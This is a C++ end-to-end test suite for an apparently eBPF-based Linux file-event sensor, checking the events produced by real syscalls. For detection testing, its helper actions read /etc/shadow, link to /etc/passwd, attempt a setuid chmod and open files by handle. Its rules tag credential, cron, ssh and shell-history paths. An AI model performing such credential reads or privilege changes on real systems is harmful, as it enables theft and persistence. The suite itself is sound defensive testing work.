// File events from real actions on this machine's kernel, asserted field by
// field, once per transport: every syscall the family hooks (nj-actions
// file-*), then what attackers' tools do, run as a user would run them.
//
// Events are found by the acting process's pid and the path, never by
// counting: the machine is never quiet, and the file family reports every
// process's changes.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <map>
#include <memory>

#include "families/file/rules.h"
#include "harness.h"

namespace nj::e2e {
namespace {

namespace fs = std::filesystem;

// Long enough for a sensor that a storm of other processes' file events
// put behind (found events return at once).
constexpr int kWaitMs = 30000;

// What the suite's events contain (its directories are all temp_dir()s);
// nothing else on the machine is kept parsed (see keep_lines_with).
const std::vector<std::string> kNeedles = {"/nj-e2e.", "\"/etc/shadow\"",          "memfd:nj-file-memfd",
                                           "nj-long-", "\"io_uring\":{\"opcode\"", "\"path_unresolved\":true"};

// The suite's fixed places, made before its sensors start (a watch rule
// needs its directory to exist): the rules file is the default rules and
// the test directories' rules.
struct Base {
  std::string dir;
  std::string rules;
};

const Base& base() {
  static const Base b = [] {
    Base x;
    x.dir = temp_dir();
    for (const char* d : {"watched", "cron.d", "ssh", "hist", "excluded"}) fs::create_directories(x.dir + "/" + d);
    x.rules = x.dir + "/rules";
    std::ofstream out(x.rules);
    out << default_file_rules_text() << "# the e2e suite's\n"
        << x.dir << "/watched/ nj-watched read\n"
        << x.dir << "/cron.d/ persistence\n"
        << x.dir << "/ssh/ ssh read\n"
        << x.dir << "/hist/.bash_history history\n"
        << "exclude " << x.dir << "/excluded/\n"
        << x.dir << "/handle-exact.txt nj-exact read\n";
    // An exact-path rule's file exists at start: its identity is watched.
    std::ofstream(x.dir + "/handle-exact.txt") << "s3cret\n";
    // Directories a rule names that do not exist when the sensors start
    // (one per transport: each test creates its own).
    for (const char* t : {"ringbuf", "perfbuf"}) out << x.dir << "/late-" << t << "/ nj-late read\n";
    return x;
  }();
  return b;
}

std::map<std::string, std::unique_ptr<SensorProcess>>& sensors() {
  static std::map<std::string, std::unique_ptr<SensorProcess>> s;
  return s;
}

// Runs `nj-actions <action> <dir>`: its JSON, or null when the action is
// not available here (exit 77: a syscall this architecture or kernel lacks).
json file_act(const std::string& action, const std::string& dir) { return try_act({action, dir}); }

#define ACT(var, action, dir)                         \
  json var = file_act(action, dir);                   \
  if (var.is_null()) {                                \
    GTEST_SKIP() << action << ": not available here"; \
  }

bool is_file_event(const json& e, const std::string& action, long pid) {
  return e.contains("file") && e.contains("process") && e["event"]["category"] == json::array({"file"}) &&
         e["event"]["action"] == action && e["process"].value("pid", 0L) == pid;
}

void expect_no_identity(const json& e) {
  EXPECT_FALSE(has(e, "file.inode")) << e["file"].dump();
  EXPECT_FALSE(has(e, "file.device"));
  EXPECT_FALSE(has(e, "file.mode"));
  EXPECT_FALSE(has(e, "file.uid"));
}

class FileEvents : public ::testing::TestWithParam<std::string> {
 protected:
  static void TearDownTestSuite() {
    for (auto& [transport, s] : sensors()) {
      // A clean stop: drained, a final sensor-stopped event, exit 0. Loss
      // is not asserted: the file family reports every process's changes,
      // and a busy machine may fill the buffers (the events asserted here
      // arrived, or their tests failed).
      expect_clean_stop(*s, transport);
      if (all_passed()) fs::remove_all(fs::path(s->output_path()).parent_path());
    }
    sensors().clear();
    fs::remove_all(base().dir);
  }
  void SetUp() override {
    auto& s = sensors()[GetParam()];
    if (!s)
      s = std::make_unique<SensorProcess>(
          std::vector<std::string>{"--events", "process,file", "--transport", GetParam(), "--file-rules", base().rules,
                                   "--ringbuf-size", "67108864", "--perf-pages", "1024"});
    s->keep_lines_with(kNeedles);
    lost_at_setup_ = lost_total(*s);
    dir_ = temp_dir();
  }
  void TearDown() override { fs::remove_all(dir_); }
  SensorProcess& sensor() { return *sensors()[GetParam()]; }

  // Whether the identity hook inside `fn` runs (bpf/file/identity.bpf.c:
  // kprobe or fentry only), as sensor-started says.
  bool hooked(const std::string& fn) {
    const std::string how = hook_status(sensor(), "file.id." + fn);
    return (how.rfind("kprobe", 0) == 0 || how.rfind("fentry", 0) == 0) && hook_attached(how);
  }
  // Whether io_uring requests are seen inside the VFS: the hooks run
  // (kprobe, fentry) and the ring's workers are the process's own threads
  // (v5.12, or a stable kernel with io_uring backported), as the action
  // found.
  static bool uring_seen(const json& action) {
    return backend() != "tracepoint" && action.value("worker_threads", 0) == 1;
  }
  // Whether the kernel names the syscall a thread is in (bpf_task_pt_regs,
  // v5.15): a request run without a worker is recognised by it.
  static bool kernel_names_syscall() {
    utsname u{};
    int major = 0, minor = 0;
    if (uname(&u) || std::sscanf(u.release, "%d.%d", &major, &minor) != 2) return false;
    return major > 5 || (major == 5 && minor >= 15);
  }
  // A path-based syscall's object: its identity where a hook inside the
  // syscall saw it, none where only the syscall's arguments were seen.
  void expect_path_identity(const json& e, const std::string& fn) {
    if (!hooked(fn)) {
      expect_no_identity(e);
      return;
    }
    EXPECT_TRUE(has(e, "file.inode")) << fn << ": " << e["file"].dump();
    EXPECT_TRUE(has(e, "file.device")) << fn;
    EXPECT_TRUE(has(e, "file.mode")) << fn;
    EXPECT_TRUE(has(e, "file.uid")) << fn;
  }

  // What mkdir, mknod or symlink created: its identity where the hook that
  // sees the new inode runs (kprobe, fentry), none on the tracepoint
  // backend. Its mode tells it from the directory it was made in.
  void expect_created_identity(const json& e, const std::string& mode) {
    expect_path_identity(e, "security_d_instantiate");
    if (hooked("security_d_instantiate")) {
      EXPECT_EQ(get(e, "file.mode"), mode) << e["file"].dump();
    }
  }
  // `mode` as asked for, less this process's umask (the helper inherits
  // it), read without setting it (umask() would, for every thread).
  static std::string masked(unsigned mode) {
    std::ifstream status("/proc/self/status");
    unsigned mask = 022;
    for (std::string line; std::getline(status, line);)
      if (line.rfind("Umask:", 0) == 0) mask = static_cast<unsigned>(std::stoul(line.substr(6), nullptr, 8));
    char s[8];
    std::snprintf(s, sizeof(s), "%04o", mode & ~mask);
    return s;
  }

  // The event of `action` by `pid` about `path` (and by `syscall` when
  // given); a test failure when it does not come.
  json find(const std::string& action, long pid, const std::string& path, const std::string& syscall = "") {
    return sensor().wait_for(
        [&](const json& x) {
          return is_file_event(x, action, pid) && x["file"].value("path", "") == path &&
                 (syscall.empty() || x["nightjar"].value("syscall", "") == syscall);
        },
        kWaitMs);
  }
  static std::string describe(const std::string& action, long pid, const std::string& path,
                              const std::string& syscall = "") {
    return action + " event of pid " + std::to_string(pid) + " for " + path + (syscall.empty() ? "" : " by " + syscall);
  }
  // Whether the sensor said it lost records since this test began.
  bool lost_since_setup() { return lost_total(sensor()) > lost_at_setup_; }
  // Every event of `action` by `pid` about `path`, once the stragglers had
  // their time.
  std::vector<json> all_of(const std::string& action, long pid, const std::string& path, int settle_ms = 300) {
    return sensor().all(
        [&](const json& x) { return is_file_event(x, action, pid) && x["file"].value("path", "") == path; }, settle_ms);
  }

  std::string dir_;  // this test's own directory
  uint64_t lost_at_setup_ = 0;
};

// The event, or the end of the test: a failure, or a skip when the sensor
// said it lost records meanwhile (a storm of other processes' events filled
// its buffers: nothing can be concluded from an event that did not come).
#define END_UNLESS_FOUND(var, what)                                                                           \
  if ((var).is_null()) {                                                                                      \
    if (lost_since_setup()) GTEST_SKIP() << "inconclusive: the sensor lost records meanwhile; no " << (what); \
    FAIL() << "no " << (what);                                                                                \
  }
#define FIND(var, ...)          \
  json var = find(__VA_ARGS__); \
  END_UNLESS_FOUND(var, describe(__VA_ARGS__))
#define WAIT(var, pred, what)                    \
  json var = sensor().wait_for((pred), kWaitMs); \
  END_UNLESS_FOUND(var, what)

// What every file event carries.
void expect_common(const json& e, long pid, const std::string& outcome = "success") {
  EXPECT_EQ(get(e, "event.kind"), "event");
  EXPECT_EQ(get(e, "event.category"), json::array({"file"}));
  EXPECT_EQ(get(e, "event.module"), "nightjar");
  EXPECT_EQ(get(e, "event.outcome"), outcome);
  EXPECT_TRUE(get(e, "@timestamp").is_string());
  EXPECT_EQ(get(e, "process.pid"), pid);
  EXPECT_TRUE(get(e, "process.entity_id").is_string());
  EXPECT_EQ(get(e, "nightjar.backend"), backend());
  EXPECT_TRUE(get(e, "nightjar.cgroup_id").is_number());
  EXPECT_FALSE(has(e, "nightjar.file.entry_unseen"));
  EXPECT_FALSE(has(e, "nightjar.file.parts_lost"));
  EXPECT_FALSE(has(e, "nightjar.file.path_truncated"));
  if (outcome == "success") {
    EXPECT_FALSE(e.contains("error"));
  }
}

// file.path and its ECS split; an empty extension means none.
void expect_path(const json& e, const std::string& path, const std::string& directory, const std::string& name,
                 const std::string& extension) {
  EXPECT_EQ(get(e, "file.path"), path);
  EXPECT_EQ(get(e, "file.directory"), directory);
  EXPECT_EQ(get(e, "file.name"), name);
  if (extension.empty()) EXPECT_FALSE(has(e, "file.extension")) << e["file"].dump();
  else EXPECT_EQ(get(e, "file.extension"), extension);
}

// The object's identity, from the helper's fstat of it.
void expect_identity(const json& e, const json& a, const std::string& prefix) {
  EXPECT_EQ(get(e, "file.inode"), std::to_string(a[prefix + "_ino"].get<long long>()));
  EXPECT_EQ(get(e, "file.device"), a[prefix + "_dev"]);
  EXPECT_TRUE(get(e, "file.mode").is_string());
  EXPECT_TRUE(get(e, "file.uid").is_string());
  EXPECT_TRUE(get(e, "file.gid").is_string());
}

// An object named by path: the syscall's exit has no identity for it (the
// same programs on every backend).

// ---------------------------------------------------------------------------
// open, openat, openat2, creat.

TEST_P(FileEvents, OpenThatCreates) {
  ACT(a, "file-open", dir_);
  FIND(e, "create", a["pid"], a["path"], "open");
  expect_common(e, a["pid"]);
  EXPECT_EQ(get(e, "event.type"), json::array({"creation"}));
  expect_path(e, a["path"], dir_, "open-new.txt", "txt");
  EXPECT_EQ(get(e, "file.type"), "file");
  expect_identity(e, a, "obj");
  EXPECT_EQ(get(e, "file.mode"), "0640");
  EXPECT_EQ(get(e, "file.uid"), "0");
  EXPECT_EQ(get(e, "file.gid"), "0");
  EXPECT_EQ(get(e, "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_CREAT", "O_EXCL"}));
  EXPECT_EQ(get(e, "nightjar.file.requested_mode"), "0640");
  EXPECT_EQ(get(e, "process.name"), "nj-actions");
  // The path comes from the opened file: no name as passed beside it.
  EXPECT_FALSE(has(e, "nightjar.file.path_as_passed"));
}

// A create through a dirfd and "..", then a modify relative to the cwd:
// both paths canonical, walked from the opened file.
TEST_P(FileEvents, OpenatCreatesThroughDotDotAndModifiesRelativeToTheCwd) {
  ACT(a, "file-openat", dir_);
  FIND(c, "create", a["pid"], a["create_path"], "openat");
  expect_common(c, a["pid"]);
  expect_path(c, a["create_path"], dir_, "openat-new.txt", "txt");
  expect_identity(c, a, "create");
  EXPECT_EQ(get(c, "file.mode"), "0600");
  EXPECT_EQ(get(c, "nightjar.file.open_flags"), json::array({"O_RDWR", "O_CREAT", "O_EXCL"}));
  EXPECT_EQ(get(c, "nightjar.file.requested_mode"), "0600");
  EXPECT_FALSE(has(c, "nightjar.file.path_as_passed"));

  FIND(m, "modify", a["pid"], a["modify_path"], "openat");
  expect_common(m, a["pid"]);
  EXPECT_EQ(get(m, "event.type"), json::array({"change"}));
  expect_path(m, a["modify_path"], dir_, "openat-existing.txt", "txt");
  EXPECT_EQ(get(m, "file.type"), "file");
  expect_identity(m, a, "modify");
  EXPECT_EQ(get(m, "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_TRUNC"}));
  EXPECT_FALSE(has(m, "nightjar.file.requested_mode"));

  // Opened through a symlink: the file is the one it points to.
  FIND(l, "modify", a["pid"], a["symlink_target_path"], "openat");
  expect_common(l, a["pid"]);
  expect_identity(l, a, "symlink_target");
  EXPECT_EQ(get(l, "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_APPEND"}));
  EXPECT_TRUE(all_of("modify", a["pid"], a["symlink_path"], 0).empty());
}

// An unnamed file (O_TMPFILE) is a creation, named by the kernel's "#<inode>"
// in its directory; linkat(fd, "", AT_EMPTY_PATH) gives it its name.
TEST_P(FileEvents, TmpfileCreatedThenNamed) {
  ACT(a, "file-tmpfile", dir_);
  const std::string anon = "#" + std::to_string(a["obj_ino"].get<long long>());
  FIND(c, "create", a["pid"], dir_ + "/" + anon, "openat");
  expect_common(c, a["pid"]);
  EXPECT_EQ(get(c, "event.type"), json::array({"creation"}));
  EXPECT_EQ(get(c, "file.type"), "file");
  expect_identity(c, a, "obj");
  EXPECT_EQ(get(c, "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_TMPFILE"}));
  EXPECT_EQ(get(c, "nightjar.file.requested_mode"), "0600");
  EXPECT_EQ(get(c, "nightjar.file.unlinked"), true) << "no name until the linkat";
  FIND(l, "create", a["pid"], a["path"], "linkat");
  expect_common(l, a["pid"]);
  EXPECT_EQ(get(l, "file.target_path"), dir_ + "/" + anon);
}

TEST_P(FileEvents, Openat2) {
  ACT(a, "file-openat2", dir_);
  FIND(e, "create", a["pid"], a["path"], "openat2");
  expect_common(e, a["pid"]);
  expect_path(e, a["path"], dir_, "openat2-new.txt", "txt");
  expect_identity(e, a, "obj");
  EXPECT_EQ(get(e, "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_CREAT", "O_EXCL"}));
  EXPECT_EQ(get(e, "nightjar.file.requested_mode"), "0600");
}

TEST_P(FileEvents, Creat) {
  ACT(a, "file-creat", dir_);
  FIND(e, "create", a["pid"], a["path"], "creat");
  expect_common(e, a["pid"]);
  expect_path(e, a["path"], dir_, "creat-new.txt", "txt");
  expect_identity(e, a, "obj");
  EXPECT_EQ(get(e, "file.mode"), "0644");
  // creat is open(O_CREAT | O_WRONLY | O_TRUNC).
  EXPECT_EQ(get(e, "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_CREAT", "O_TRUNC"}));
  EXPECT_EQ(get(e, "nightjar.file.requested_mode"), "0644");
}

// One process opening one file for writing twice within the window is one
// modification; a create opens the window too.
TEST_P(FileEvents, ModifyWindowFoldsRepeatedWrites) {
  ACT(a, "file-modify-twice", dir_);
  // The chmod at the end of the action: everything before it has arrived.
  FIND(marker, "chmod", a["pid"], a["created"]);
  auto mods = all_of("modify", a["pid"], a["existing"]);
  if (mods.empty() && lost_since_setup()) GTEST_SKIP() << "inconclusive: the sensor lost records meanwhile";
  ASSERT_EQ(mods.size(), 1u);
  EXPECT_EQ(get(mods[0], "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_APPEND"}));
  EXPECT_EQ(all_of("create", a["pid"], a["created"], 0).size(), 1u);
  EXPECT_TRUE(all_of("modify", a["pid"], a["created"], 0).empty()) << "the create opened the window";
}

// Reads are reported where a rule asks for them (/etc/shadow by the
// default rules, the suite's watched/ directory by its own), and nowhere
// else; an O_PATH open reads nothing.
TEST_P(FileEvents, WatchedReadsOnly) {
  ACT(a, "file-read", base().dir);
  const std::string watched = a["watched_path"];
  // The action's last step, a write to the watched file.
  FIND(m, "modify", a["pid"], watched, "openat");
  expect_common(m, a["pid"]);
  EXPECT_EQ(get(m, "nightjar.file.tags"), json::array({"nj-watched"}));
  EXPECT_EQ(get(m, "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_APPEND"}));

  FIND(s, "read", a["pid"], "/etc/shadow", "openat");
  expect_common(s, a["pid"]);
  EXPECT_EQ(get(s, "event.type"), json::array({"access"}));
  expect_path(s, "/etc/shadow", "/etc", "shadow", "");
  EXPECT_EQ(get(s, "file.type"), "file");
  expect_identity(s, a, "shadow");
  EXPECT_EQ(get(s, "nightjar.file.tags"), json::array({"credentials"}));
  // A read-only open saves nothing at entry: the flags are the open file's.
  EXPECT_EQ(get(s, "nightjar.file.open_flags"), json::array({"O_RDONLY", "O_LARGEFILE"}));
  EXPECT_FALSE(has(s, "nightjar.file.entry_unseen"));

  auto reads = all_of("read", a["pid"], watched);
  if (reads.empty() && lost_since_setup()) GTEST_SKIP() << "inconclusive: the sensor lost records meanwhile";
  ASSERT_EQ(reads.size(), 1u) << "one read: the O_PATH open before it is none";
  const json& r = reads[0];
  expect_common(r, a["pid"]);
  expect_path(r, watched, base().dir + "/watched", "secret.txt", "txt");
  expect_identity(r, a, "watched");
  EXPECT_EQ(get(r, "file.mode"), "0600");
  EXPECT_EQ(get(r, "nightjar.file.tags"), json::array({"nj-watched"}));
  EXPECT_EQ(get(r, "nightjar.file.open_flags"), json::array({"O_RDONLY", "O_LARGEFILE"}));

  EXPECT_TRUE(all_of("read", a["pid"], base().dir + "/watched", 0).empty()) << "the dirfd is an O_PATH open";
  EXPECT_TRUE(all_of("read", a["pid"], a["unwatched_path"], 0).empty()) << "an unwatched file's read";
}

// open_by_handle_at walks no path (how a process reaches files outside its
// root or mount namespace): the file is named from the opened descriptor,
// and a watched file's read is tagged as by any open.
TEST_P(FileEvents, OpenByHandle) {
  ACT(a, "file-open-by-handle", base().dir);
  FIND(r, "read", a["pid"], a["read_path"], "open_by_handle_at");
  expect_common(r, a["pid"]);
  EXPECT_EQ(get(r, "event.type"), json::array({"access"}));
  expect_path(r, a["read_path"], base().dir + "/watched", "handle-secret.txt", "txt");
  expect_identity(r, a, "read");
  EXPECT_EQ(get(r, "nightjar.file.tags"), json::array({"nj-watched"}));
  EXPECT_EQ(get(r, "nightjar.file.open_flags"), json::array({"O_RDONLY", "O_LARGEFILE"}));

  FIND(m, "modify", a["pid"], a["modify_path"], "open_by_handle_at");
  expect_common(m, a["pid"]);
  EXPECT_EQ(get(m, "event.type"), json::array({"change"}));
  expect_path(m, a["modify_path"], base().dir, "handle-target.txt", "txt");
  expect_identity(m, a, "modify");
  EXPECT_EQ(get(m, "file.mode"), "0644");
  // Saved at entry: the flags as passed.
  EXPECT_EQ(get(m, "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_APPEND"}));
  EXPECT_FALSE(has(m, "nightjar.file.entry_unseen"));
}

// A file opened by handle whose dentry was not cached: the kernel makes a
// new one that no name leads to, so the walk finds no path. A file an
// exact-path rule watches is named by that rule (matched by identity);
// another has no path, only its identity.
TEST_P(FileEvents, OpenByHandleOfAnUncachedFile) {
  ACT(a, "file-open-by-handle-uncached", base().dir);
  auto unresolved_by = [&](const std::string& action) {
    return [&, action](const json& x) {
      return is_file_event(x, action, a["pid"]) && x["nightjar"].value("syscall", "") == "open_by_handle_at" &&
             has(x, "nightjar.file.path_unresolved");
    };
  };
  WAIT(r, unresolved_by("read"), "read by handle of " + a["exact_path"].get<std::string>());
  expect_common(r, a["pid"]);
  expect_path(r, a["exact_path"], base().dir, "handle-exact.txt", "txt");
  expect_identity(r, a, "exact");
  EXPECT_EQ(get(r, "nightjar.file.tags"), json::array({"nj-exact"}));
  EXPECT_EQ(get(r, "nightjar.file.path_unresolved"), true);

  WAIT(m, unresolved_by("modify"), "modify by handle of " + a["plain_path"].get<std::string>());
  expect_common(m, a["pid"]);
  EXPECT_FALSE(has(m, "file.path")) << m["file"].dump();
  EXPECT_FALSE(has(m, "file.name"));
  EXPECT_FALSE(has(m, "file.directory"));
  expect_identity(m, a, "plain");
  EXPECT_EQ(get(m, "nightjar.file.path_unresolved"), true);
  EXPECT_FALSE(has(m, "nightjar.file.tags"));
  EXPECT_EQ(get(m, "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_APPEND"}));
}

// A write the kernel refused (EACCES) is reported with the path as passed:
// uid 65534 opening a root file of mode 0600 for writing, and creating in a
// directory it may not write to.
TEST_P(FileEvents, DeniedWriteIsReportedAsAFailure) {
  ACT(a, "file-denied", dir_);
  FIND(e, "modify", a["pid"], a["path"], "openat");
  expect_common(e, a["pid"], "failure");
  EXPECT_EQ(get(e, "error.code"), "EACCES");
  EXPECT_EQ(get(e, "error.message"), "Permission denied");
  EXPECT_EQ(get(e, "process.user.id"), "65534");
  EXPECT_EQ(get(e, "process.real_user.id"), "65534");
  EXPECT_EQ(get(e, "process.parent.pid"), a["ppid"]);
  expect_path(e, a["path"], dir_, "root-only.txt", "txt");
  expect_no_identity(e);
  EXPECT_EQ(get(e, "nightjar.file.open_flags"), json::array({"O_WRONLY"}));

  FIND(c, "create", a["pid"], a["create_path"], "openat");
  expect_common(c, a["pid"], "failure");
  EXPECT_EQ(get(c, "error.code"), "EACCES");
  expect_no_identity(c);
  EXPECT_EQ(get(c, "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_CREAT", "O_EXCL"}));
  EXPECT_EQ(get(c, "nightjar.file.requested_mode"), "0644");

  // EPERM is a refusal too; ENOENT (before it) is a program probing for
  // files, not reported.
  FIND(p, "chmod", a["pid"], a["path"], "fchmodat");
  expect_common(p, a["pid"], "failure");
  EXPECT_EQ(get(p, "error.code"), "EPERM");
  EXPECT_EQ(get(p, "nightjar.file.new_mode"), "4777");
  EXPECT_EQ(get(p, "nightjar.file.mode_bits"), json::array({"setuid"}));
  EXPECT_TRUE(all_of("delete", a["pid"], a["missing_path"], 0).empty());
}

// ---------------------------------------------------------------------------
// mkdir, mknod, symlink, link.

TEST_P(FileEvents, Mkdir) {
  ACT(a, "file-mkdir", dir_);
  FIND(e, "create", a["pid"], a["path"], "mkdir");
  expect_common(e, a["pid"]);
  expect_path(e, a["path"], dir_, "mkdir-dir", "");
  EXPECT_EQ(get(e, "file.type"), "dir");
  expect_created_identity(e, masked(0750));
  EXPECT_EQ(get(e, "nightjar.file.requested_mode"), "0750");
  EXPECT_FALSE(has(e, "nightjar.file.path_as_passed")) << "passed absolute";
}

TEST_P(FileEvents, MkdiratRelativeToADirfd) {
  ACT(a, "file-mkdirat", dir_);
  FIND(e, "create", a["pid"], a["path"], "mkdirat");
  expect_common(e, a["pid"]);
  expect_path(e, a["path"], dir_ + "/parent", "mkdirat-dir", "");
  EXPECT_EQ(get(e, "file.type"), "dir");
  expect_created_identity(e, masked(0700));
  EXPECT_EQ(get(e, "nightjar.file.requested_mode"), "0700");
  EXPECT_EQ(get(e, "nightjar.file.path_as_passed"), "mkdirat-dir");
}

TEST_P(FileEvents, MknodOfAFifo) {
  ACT(a, "file-mknod", dir_);
  FIND(e, "create", a["pid"], a["path"], "mknod");
  expect_common(e, a["pid"]);
  expect_path(e, a["path"], dir_, "fifo", "");
  EXPECT_EQ(get(e, "file.type"), "fifo");
  expect_created_identity(e, masked(0600));
  EXPECT_EQ(get(e, "nightjar.file.requested_mode"), "0600");
  EXPECT_FALSE(has(e, "nightjar.file.rdev"));
}

TEST_P(FileEvents, MknodatOfARegularFile) {
  ACT(a, "file-mknodat", dir_);
  FIND(e, "create", a["pid"], a["path"], "mknodat");
  expect_common(e, a["pid"]);
  expect_path(e, a["path"], dir_, "node.dat", "dat");
  EXPECT_EQ(get(e, "file.type"), "file");
  expect_created_identity(e, masked(0640));
  EXPECT_EQ(get(e, "nightjar.file.requested_mode"), "0640");
  EXPECT_EQ(get(e, "nightjar.file.path_as_passed"), "node.dat");
}

// A symlink's target is kept as written (relative, with a space), not
// resolved: it may not exist, and what it says is the point.
TEST_P(FileEvents, Symlink) {
  ACT(a, "file-symlink", dir_);
  FIND(e, "create", a["pid"], a["path"], "symlink");
  expect_common(e, a["pid"]);
  expect_path(e, a["path"], dir_ + "/sub", "link", "");
  EXPECT_EQ(get(e, "file.type"), "symlink");
  EXPECT_EQ(get(e, "file.target_path"), "../target with space");
  expect_created_identity(e, "0777");  // a symlink's, whatever the umask
  EXPECT_FALSE(has(e, "nightjar.file.target_path_as_passed"));
  EXPECT_FALSE(has(e, "nightjar.file.path_as_passed"));
}

TEST_P(FileEvents, SymlinkatRelativeToADirfd) {
  ACT(a, "file-symlinkat", dir_);
  FIND(e, "create", a["pid"], a["path"], "symlinkat");
  expect_common(e, a["pid"]);
  expect_path(e, a["path"], dir_, "passwd-link", "");
  EXPECT_EQ(get(e, "file.type"), "symlink");
  EXPECT_EQ(get(e, "file.target_path"), "/etc/passwd");
  EXPECT_EQ(get(e, "nightjar.file.path_as_passed"), "passwd-link");
}

// A hard link: the new name is the file, the existing path (absolute) its
// target.
TEST_P(FileEvents, Link) {
  ACT(a, "file-link", dir_);
  FIND(e, "create", a["pid"], a["path"], "link");
  expect_common(e, a["pid"]);
  expect_path(e, a["path"], dir_, "hard.txt", "txt");
  EXPECT_EQ(get(e, "file.target_path"), a["target"]);
  expect_path_identity(e, "security_path_link");  // the existing file
  if (hooked("security_path_link")) EXPECT_EQ(get(e, "file.type"), "file") << "the existing file's";
  else EXPECT_FALSE(has(e, "file.type")) << "a link names an object of any type";
  EXPECT_FALSE(has(e, "nightjar.file.target_path_as_passed"));
}

TEST_P(FileEvents, LinkatRelativeAndByEmptyPath) {
  ACT(a, "file-linkat", dir_);
  FIND(e, "create", a["pid"], a["path"], "linkat");
  expect_common(e, a["pid"]);
  expect_path(e, a["path"], dir_ + "/sub", "hard2.txt", "txt");
  EXPECT_EQ(get(e, "file.target_path"), a["target"]);
  EXPECT_EQ(get(e, "nightjar.file.path_as_passed"), "sub/hard2.txt");
  EXPECT_EQ(get(e, "nightjar.file.target_path_as_passed"), "orig.txt");

  // linkat(fd, "", dirfd, name, AT_EMPTY_PATH): the existing file is the fd.
  FIND(x, "create", a["pid"], a["empty_path"], "linkat");
  expect_common(x, a["pid"]);
  EXPECT_EQ(get(x, "file.target_path"), a["target"]);
  EXPECT_EQ(get(x, "nightjar.file.path_as_passed"), "hard3.txt");
}

// ---------------------------------------------------------------------------
// unlink, unlinkat, rmdir.

// The kprobe and fentry backends must attach the identity hooks: without
// them every path-based event silently loses its identity.
TEST_P(FileEvents, IdentityHooksRunWhereTheBackendHasThem) {
  const bool want = backend() != "tracepoint";
  for (const char* fn : {"security_path_unlink", "security_path_rmdir", "security_path_rename", "security_path_chmod",
                         "security_path_link", "vfs_truncate", "security_inode_setxattr", "security_inode_removexattr"})
    EXPECT_EQ(hooked(fn), want) << fn;
  for (const char* fn : {"security_file_open", "security_path_mkdir", "security_path_symlink"}) {
    const std::string how = hook_status(sensor(), std::string("file.uring.") + fn);
    EXPECT_EQ((how.rfind("kprobe", 0) == 0 || how.rfind("fentry", 0) == 0) && hook_attached(how), want) << fn;
  }
}

// A file created through io_uring runs no open syscall: the submit
// tracepoint (every backend) reports the request, without its path.
TEST_P(FileEvents, IoUringFileRequestIsReported) {
  ACT(a, "io_uring_openat", dir_);
  const long pid = a["pid"];
  WAIT(
      e,
      [&](const json& x) {
        return x["event"]["action"] == "io_uring" && x.contains("process") && x["process"].value("pid", 0L) == pid;
      },
      "the io_uring event of pid " + std::to_string(pid));
  EXPECT_EQ(get(e, "event.category"), json::array({"file"}));
  EXPECT_EQ(get(e, "event.type"), json::array({"change"}));
  EXPECT_EQ(get(e, "event.outcome"), "success");
  EXPECT_EQ(get(e, "nightjar.file.io_uring.opcode"), "OPENAT");
  EXPECT_EQ(get(e, "nightjar.file.io_uring.sq_thread"), false);
  EXPECT_EQ(get(e, "process.name"), "nj-actions");
  EXPECT_FALSE(e.contains("file")) << "what the request acts on is not known";
  EXPECT_FALSE(has(e, "nightjar.syscall"));
  EXPECT_TRUE(fs::exists(std::string(a["path"]))) << "the request really created the file";
  for (const json& c : all_of("create", pid, a["path"], 0))
    EXPECT_FALSE(has(c, "nightjar.syscall")) << "no open syscall ran: " << c.dump();
}

// io_uring requests run no syscall. On kprobe and fentry the VFS hooks they
// do reach report what they did, like the syscalls' events but with
// io_uring in place of the syscall and the outcome unknown, where the
// ring's workers are the process's threads (v5.12; before, kernel threads:
// not reported). The
// tracepoint backend sees only their submission. Each step is one event.
TEST_P(FileEvents, IoUringRequestsSeenInsideTheVfs) {
  ACT(a, "io_uring_files", dir_);
  const long pid = a["pid"];
  const std::string d = a["dir"], file = a["file"], ino = std::to_string(a["file_ino"].get<long long>());
  if (!uring_seen(a)) {
    for (const char* path : {"dir", "file", "sym", "hard", "other"})
      for (const json& c : all_of("create", pid, a[path], 0)) EXPECT_TRUE(has(c, "nightjar.syscall")) << c.dump();
    EXPECT_TRUE(all_of("delete", pid, a["other"], 0).empty());
    return;
  }
  // The event of one step, the only one of its kind for its path.
  auto one = [&](const std::string& action, const std::string& path) {
    json e = find(action, pid, path);
    if (e.is_null()) {
      ADD_FAILURE() << "no " << describe(action, pid, path);
      return e;
    }
    expect_common(e, pid, "unknown");
    EXPECT_FALSE(has(e, "nightjar.syscall")) << e.dump();
    EXPECT_EQ(get(e, "nightjar.file.io_uring.worker"), true) << "creating requests go to the ring's workers";
    EXPECT_FALSE(has(e, "nightjar.file.path_as_passed"));
    EXPECT_EQ(all_of(action, pid, path).size(), 1u) << action << " " << path;
    return e;
  };
  if (a.contains("mkdirat")) {
    json m = one("create", d);
    expect_path(m, d, dir_, "uring-dir", "");
    EXPECT_EQ(get(m, "file.type"), "dir");
    EXPECT_TRUE(has(m, "nightjar.file.requested_mode"));
  }
  json o = one("create", file);
  expect_path(o, file, d, "new.txt", "txt");
  EXPECT_EQ(get(o, "file.type"), "file");
  EXPECT_EQ(get(o, "file.inode"), ino);
  EXPECT_EQ(get(o, "file.mode"), "0600");
  EXPECT_EQ(get(o, "nightjar.file.open_flags"), json::array({"O_WRONLY", "O_CREAT", "O_LARGEFILE"}));
  EXPECT_FALSE(has(o, "nightjar.file.requested_mode")) << "the VFS does not say the mode asked for";
  if (!a.contains("symlinkat")) return;
  json s = one("create", a["sym"]);
  EXPECT_EQ(get(s, "file.type"), "symlink");
  EXPECT_EQ(get(s, "file.target_path"), "new.txt");
  json l = one("create", a["hard"]);
  EXPECT_EQ(get(l, "file.target_path"), file);
  EXPECT_FALSE(has(l, "nightjar.file.target_path_as_passed"));
  EXPECT_EQ(get(l, "file.inode"), ino) << "the existing file's identity";
  one("create", a["other"]);
  json r = one("rename", a["other"]);
